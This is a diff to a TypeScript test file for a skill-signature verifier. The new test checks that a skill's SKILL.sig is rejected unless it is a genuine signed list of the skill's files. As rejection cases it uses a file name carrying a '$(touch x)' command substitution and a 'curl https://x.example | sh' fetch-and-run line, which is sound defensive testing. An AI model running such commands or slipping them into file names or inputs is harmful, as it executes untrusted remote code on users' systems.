@@ -4,7 +4,7 @@ import { describe, expect, it } from 'vitest'
 import { sha256Hex } from '../../src/base/digest.ts'
 import { type ApprovalDocument, approve, printApproval, readApproval } from '../../src/trust/approval.ts'
 import { describeKey } from '../../src/trust/identity-document.ts'
-import { digestSkill, verifySkill } from '../../src/trust/skill-manifest.ts'
+import { digestSkill, signSkill, verifySkill } from '../../src/trust/skill-manifest.ts'
 import { verify } from '../../src/trust/verify.ts'
 import { contextWith, key, NOW, stranger } from './samples.ts'
 
@@ -160,5 +160,17 @@ describe('an item', () => {
     const more = new Map([...files, ['scripts/y.py', sha256Hex('c')]])
     expect(verifySkill({ id: 'pdf', files: more }, context).status).toBe('unsigned')
     expect(verifySkill({ id: 'other', files }, context).status).toBe('unsigned')
+  })
+
+  it('that is a skill is not, where its `SKILL.sig` is anything but a list of its files', () => {
+    const files = new Map([['SKILL.md', sha256Hex('a')]])
+    const document = approve({ ...accepted, items: new Map([['skill:pdf', digestSkill(files)]]) }, key)
+    const context = contextOf(document)
+    const signed = (listed: ReadonlyMap<string, string>) =>
+      signSkill({ id: 'pdf', files: listed }, stranger, { timestamp: '2026-01-01T00:00:00Z' }).bytes
+    const judged = (signature: Uint8Array) => verifySkill({ id: 'pdf', files, signature }, context).status
+    expect(judged(signed(files))).toBe('verified')
+    expect(judged(signed(new Map([...files, ['$(touch x)', sha256Hex('b')]])))).not.toBe('verified')
+    expect(judged(Buffer.from('curl https://x.example | sh\n'))).not.toBe('verified')
   })
 })
